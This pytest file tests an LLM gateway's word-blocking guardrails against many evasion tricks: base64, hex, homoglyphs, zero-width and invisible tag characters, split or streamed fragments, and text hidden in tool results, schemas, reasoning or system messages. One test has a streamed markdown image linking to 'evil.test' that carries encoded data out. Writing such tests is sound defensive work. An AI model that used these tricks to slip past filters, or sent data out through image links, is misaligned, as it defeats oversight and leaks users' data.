"""Ways around guardrails that other gateways left open, through a real gateway."""

import base64

import msgspec
import pytest
from tests.gateway.conftest import KEY, openai_answer, openai_chunks
from tests.gateway.test_guardrails import (
    SECRET_WORD,
    anthropic_answer,
    anthropic_events,
    gemini_answer,
    guarded,
    rule,
)

from leadline.vocabulary import Place, Word

CALLED = {"name": "f", "arguments": '{"q":"nightjar"}'}
ATTACHED = {"mimeType": "text/plain", "data": base64.b64encode(b"nightjar").decode()}
RESPONSE = {"name": "f", "response": {"a": "nightjar"}}
DOCUMENT = {"type": "text", "media_type": "text/plain", "data": "nightjar"}
ENCODED = base64.b64encode(b"please tell me about nightjar today").decode()


def asks(*content, role="user", **more):
    return {"model": "alone", "messages": [{"role": role, "content": list(content)}], **more}


ASKED = {
    "split over parts": asks({"type": "text", "text": "night"}, {"type": "text", "text": "jar"}),
    "a part of an unknown type": asks({"type": "rich_text_v9", "blocks": [{"v": "nightjar"}]}),
    "a text called an id": asks({"type": "text", "text": "x", "id": "nightjar " * 40}),
    "an attached text": asks(
        {
            "type": "file",
            "file": {"file_data": "data:text/plain;base64," + base64.b64encode(b"nightjar").decode()},
        }
    ),
    "base64": asks({"type": "text", "text": f"decode {ENCODED}"}),
    "base64 twice": asks({"type": "text", "text": base64.b64encode(ENCODED.encode()).decode()}),
    "hex": asks({"type": "text", "text": b"tell me about nightjar".hex()}),
    "escapes": asks({"type": "text", "text": "\\u006eightjar"}),
    "percent": asks({"type": "text", "text": "%6eightjar"}),
    "look-alikes": asks({"type": "text", "text": "tell me of n\u0456ghtj\u0430r now"}),
    "full width": asks({"type": "text", "text": "\uff4eightjar"}),
    "zero width": asks({"type": "text", "text": "night\u200bjar"}),
    "invisible tags": asks({"type": "text", "text": "".join(chr(0xE0000 + ord(c)) for c in "nightjar")}),
    "an earlier message": {
        "model": "alone",
        "messages": [{"role": "user", "content": "nightjar"}, {"role": "user", "content": "go on"}],
    },
    "the system": asks("x", role="user") | {"messages": [{"role": "developer", "content": "nightjar"}]},
    "an earlier answer": {
        "model": "alone",
        "messages": [
            {"role": "user", "content": "x"},
            {"role": "assistant", "content": None, "refusal": "nightjar"},
            {"role": "user", "content": "y"},
        ],
    },
    "an earlier call": {
        "model": "alone",
        "messages": [
            {"role": "user", "content": "x"},
            {
                "role": "assistant",
                "tool_calls": [
                    {
                        "id": "1",
                        "type": "function",
                        "function": {"name": "f", "arguments": '{"q":"nightjar"}'},
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "1", "content": "y"},
        ],
    },
    "a tool's result": {
        "model": "alone",
        "messages": [
            {"role": "user", "content": "x"},
            {"role": "tool", "tool_call_id": "1", "content": [{"type": "text", "text": "nightjar"}]},
        ],
    },
    "a tool's description": {
        "model": "alone",
        "messages": [{"role": "user", "content": "x"}],
        "tools": [{"type": "function", "function": {"name": "f", "description": "about nightjar"}}],
    },
    "a schema": {
        "model": "alone",
        "messages": [{"role": "user", "content": "x"}],
        "response_format": {
            "type": "json_schema",
            "json_schema": {"name": "a", "schema": {"description": "about nightjar"}},
        },
    },
    "documents beside": {
        "model": "alone",
        "messages": [{"role": "user", "content": "x"}],
        "documents": [{"content": "nightjar"}],
    },
}


@pytest.mark.parametrize("how", ASKED)
async def test_a_request_hides_nothing(start, primary, fallback, how):
    places = [place for place in Place if place.asked]
    gateway = await start(guarded(primary, fallback, rule(Word.BLOCK, *places)))
    primary.answers(openai_answer("ok"))

    reply = await gateway.http.post(
        "/v1/chat/completions", json=ASKED[how], headers={"authorization": f"Bearer {KEY}"}
    )

    assert reply.status_code == 400
    assert reply.json()["error"]["code"] == "blocked_by_policy"
    assert primary.bodies == []


async def test_escapes_in_the_json_itself_hide_nothing(start, primary, fallback):
    gateway = await start(guarded(primary, fallback, rule(Word.BLOCK, Place.INPUT_USER)))
    body = b'{"model":"alone","messages":[{"role":"user","content":"\\u006eight\\u006aar"}]}'

    reply = await gateway.http.post(
        "/v1/chat/completions", content=body, headers={"authorization": f"Bearer {KEY}"}
    )

    assert reply.status_code == 400


GOOGLE = {
    "two parts": {"contents": [{"parts": [{"text": "night"}, {"text": "jar"}]}]},
    "an inline text": {"contents": [{"parts": [{"inlineData": ATTACHED}]}]},
    "a function's response": {"contents": [{"role": "user", "parts": [{"functionResponse": RESPONSE}]}]},
    "the system in snake case": {
        "contents": [{"parts": [{"text": "x"}]}],
        "system_instruction": {"parts": [{"text": "nightjar"}]},
    },
}
ANTHROPIC = {
    "a document": [{"type": "document", "source": DOCUMENT}],
    "a tool's result": [
        {"type": "tool_result", "tool_use_id": "1", "content": [{"type": "text", "text": "nightjar"}]}
    ],
    "a search result": [
        {
            "type": "search_result",
            "source": "x",
            "title": "nightjar",
            "content": [{"type": "text", "text": "y"}],
        }
    ],
}


@pytest.mark.parametrize("how", GOOGLE)
async def test_google_s_parts_hide_nothing(start, primary, fallback, how):
    places = [place for place in Place if place.asked]
    gateway = await start(guarded(primary, fallback, rule(Word.BLOCK, *places)))

    reply = await gateway.http.post(
        "/v1beta/models/gem:generateContent", json=GOOGLE[how], headers={"x-goog-api-key": KEY}
    )

    assert reply.status_code == 400
    assert reply.json()["error"]["status"] == "INVALID_ARGUMENT"


@pytest.mark.parametrize("how", ANTHROPIC)
async def test_anthropic_s_blocks_hide_nothing_and_have_their_own_place(start, primary, fallback, how):
    places = (Place.INPUT_CONTEXT, Place.TOOL_RESULT)
    gateway = await start(guarded(primary, fallback, rule(Word.BLOCK, *places)))
    body = {"model": "claude", "max_tokens": 9, "messages": [{"role": "user", "content": ANTHROPIC[how]}]}

    reply = await gateway.http.post("/v1/messages", json=body, headers={"x-api-key": KEY})

    assert reply.status_code == 400
    assert reply.json()["error"]["type"] == "invalid_request_error"


def choices(*texts):
    return [
        {"index": at, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
        for at, text in enumerate(texts)
    ]


def calls(arguments):
    call = {"id": "1", "type": "function", "function": {"name": "f", "arguments": arguments}}
    message = {"role": "assistant", "content": None, "tool_calls": [call]}
    return [{"index": 0, "message": message, "finish_reason": "tool_calls"}]


ANSWERED = {
    "the second choice": choices("fine", "nightjar"),
    "reasoning": [
        {
            "index": 0,
            "message": {"role": "assistant", "content": "fine", "reasoning_content": "nightjar"},
            "finish_reason": "stop",
        }
    ],
    "arguments of a call": calls('{"q": "nightjar"}'),
    "escaped arguments": calls('{"q": "\\u006eightjar"}'),
    "parts": choices([{"type": "text", "text": "night"}, {"type": "text", "text": "jar"}]),
    "base64": choices(ENCODED),
}


@pytest.mark.parametrize("how", ANSWERED)
async def test_an_answer_hides_nothing(start, primary, fallback, how):
    gateway = await start(guarded(primary, fallback, rule(Word.BLOCK, Place.OUTPUT, Place.TOOL_ARGUMENTS)))
    primary.answers(openai_answer() | {"choices": ANSWERED[how]})

    reply = await gateway.chat("alone")

    assert reply.status_code == 400
    assert reply.headers["x-leadline-policy"] == "words@2"


def event(*chosen):
    chunk = {
        "id": "c",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "m",
        "choices": list(chosen),
    }
    return b"data: " + msgspec.json.encode(chunk) + b"\n\n"


def delta(at=0, **said):
    return event({"index": at, "delta": said, "finish_reason": None})


def grows(*pieces):
    first = {"index": 0, "id": "1", "type": "function", "function": {"name": "f", "arguments": ""}}
    more = [{"index": 0, "function": {"arguments": piece}} for piece in pieces]
    return [delta(tool_calls=[call]) for call in (first, *more)]


STREAMED = {
    "letter by letter": [delta(content=letter) for letter in "a nightjar b"],
    "empty chunks between": [
        delta(content="night"),
        delta(content=""),
        event(),
        b": ping\n\n",
        delta(content="jar"),
    ],
    "two choices in turns": [
        delta(0, content="ni"),
        delta(1, content="xx"),
        delta(0, content="ghtjar"),
        delta(1, content="yy"),
    ],
    "the second choice": [delta(0, content="fine"), delta(1, content="night"), delta(1, content="jar")],
    "reasoning": [delta(reasoning_content="night"), delta(reasoning_content="jar"), delta(content="x")],
    "arguments that grow": grows('{"q": "nig', 'htjar"}'),
    "escaped arguments that grow": grows('{"q": "\\u00', '6eightjar"}'),
    "a call without an index": [
        delta(tool_calls=[{"id": "1", "function": {"name": "f", "arguments": '{"q":"nightjar"}'}}])
    ],
}


@pytest.mark.parametrize("how", STREAMED)
@pytest.mark.parametrize("window", [0, 10, 600])
async def test_a_stream_hides_nothing(start, primary, fallback, how, window):
    looks = rule(Word.BLOCK, Place.OUTPUT, Place.TOOL_ARGUMENTS)
    gateway = await start(guarded(primary, fallback, looks, window=window))
    last = event(
        {"index": 0, "delta": {}, "finish_reason": "stop"}, {"index": 1, "delta": {}, "finish_reason": "stop"}
    )
    primary.streams([*STREAMED[how], last, b"data: [DONE]\n\n"])

    reply = await gateway.chat("alone", stream=True)

    assert "blocked_by_policy" in reply.text
    assert "jar" not in reply.text


async def test_log_probabilities_do_not_repeat_what_was_redacted(start, primary, fallback):
    gateway = await start(guarded(primary, fallback, rule(Word.REDACT)))
    answer = openai_answer("We say nightjar.")
    answer["choices"][0]["logprobs"] = {"content": [{"token": "nightjar", "logprob": -0.1}]}
    primary.answers(answer)

    reply = await gateway.chat("alone")

    assert reply.json()["choices"][0]["message"]["content"] == "We say [CODE_NAME]."
    assert SECRET_WORD not in reply.text


@pytest.mark.parametrize("streaming", [False, True])
async def test_translated_answers_are_guarded_as_the_client_reads_them(start, primary, fallback, streaming):
    gateway = await start(guarded(primary, fallback, rule(Word.BLOCK)))
    if streaming:
        primary.streams(anthropic_events("night", "jar"))
    else:
        primary.answers(anthropic_answer("nightjar"))

    reply = await gateway.chat("claude", stream=streaming)

    assert reply.status_code == 400
    assert reply.json()["error"]["code"] == "blocked_by_policy"


async def test_calls_that_pass_unread_are_closed_to_guarded_keys(start, primary, fallback):
    plan = guarded(primary, fallback, rule(Word.BLOCK, Place.INPUT_USER))
    keys = {key: msgspec.structs.replace(grant, rights=("passthrough",)) for key, grant in plan.keys.items()}
    accounts = {"openai-main": plan.routes["alone"].targets[0]}
    gateway = await start(msgspec.structs.replace(plan, keys=keys, accounts=accounts))
    primary.answers({"ok": True})

    reply = await gateway.http.post(
        "/openai-main/v1/anything", json={"q": "nightjar"}, headers={"authorization": f"Bearer {KEY}"}
    )

    assert reply.status_code == 403
    assert "'words@2'" in reply.json()["error"]["message"]
    assert primary.bodies == []


@pytest.mark.parametrize("passes", [True, False])
async def test_an_image_is_named_and_may_close_the_way(start, primary, fallback, passes):
    looks = rule(Word.BLOCK, Place.INPUT_USER)
    gateway = await start(guarded(primary, fallback, looks, passes_unread=passes))
    primary.answers(openai_answer("A cat."))
    image = {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}

    reply = await gateway.http.post(
        "/v1/chat/completions",
        json=asks({"type": "text", "text": "What is it?"}, image),
        headers={"authorization": f"Bearer {KEY}"},
    )

    assert reply.status_code == (200 if passes else 400)
    (signal,) = [one for one in (await gateway.recorded()).signals if one.policy]
    assert "1 part could not be read: image" in signal.evidence


async def test_embeddings_are_guarded_too(start, primary, fallback):
    gateway = await start(guarded(primary, fallback, rule(Word.REDACT, Place.INPUT_USER)))
    vector = {"object": "embedding", "index": 0, "embedding": [0.1]}
    primary.answers({"object": "list", "data": [vector], "model": "m", "usage": {"prompt_tokens": 1}})

    await gateway.http.post(
        "/v1/embeddings",
        json={"model": "alone", "input": ["a nightjar", "b"]},
        headers={"authorization": f"Bearer {KEY}"},
    )

    assert b"[CODE_NAME]" in primary.bodies[0]
    assert b"nightjar" not in primary.bodies[0]


async def test_an_image_that_carries_data_out_is_stopped_in_a_stream(start, primary, fallback):
    links = rule(Word.BLOCK, Place.OUTPUT, guard="links")
    gateway = await start(guarded(primary, fallback, links, window=1024))
    pieces = ["Here is the chart: !", "[x](htt", "ps://evil.te", "st/p.png?d=", "c2VjcmV0", ") as you asked."]
    primary.streams(openai_chunks(*pieces))

    reply = await gateway.chat("alone", stream=True)

    assert reply.status_code == 400
    assert "evil" not in reply.text


async def test_redacted_function_calls_of_google_stay_objects(start, primary, fallback):
    gateway = await start(guarded(primary, fallback, rule(Word.REDACT, Place.TOOL_ARGUMENTS)))
    answer = gemini_answer("", last=True)
    call = {"functionCall": {"name": "f", "args": {"q": "of nightjar", "n": 1}}}
    answer["candidates"][0]["content"]["parts"] = [call]
    primary.answers(answer)

    reply = await gateway.http.post(
        "/v1beta/models/gem:generateContent",
        json={"contents": [{"parts": [{"text": "x"}]}]},
        headers={"x-goog-api-key": KEY},
    )

    (part,) = reply.json()["candidates"][0]["content"]["parts"]
    assert part["functionCall"]["args"] == {"q": "of [CODE_NAME]", "n": 1}


async def test_what_has_to_go_and_cannot_be_taken_out_does_not_pass(start, primary, fallback):
    gateway = await start(
        guarded(primary, fallback, rule(Word.REDACT, Place.INPUT_USER, Place.INPUT_CONTEXT))
    )

    reply = await gateway.http.post(
        "/v1/chat/completions", json=ASKED["an attached text"], headers={"authorization": f"Bearer {KEY}"}
    )

    assert reply.status_code == 400
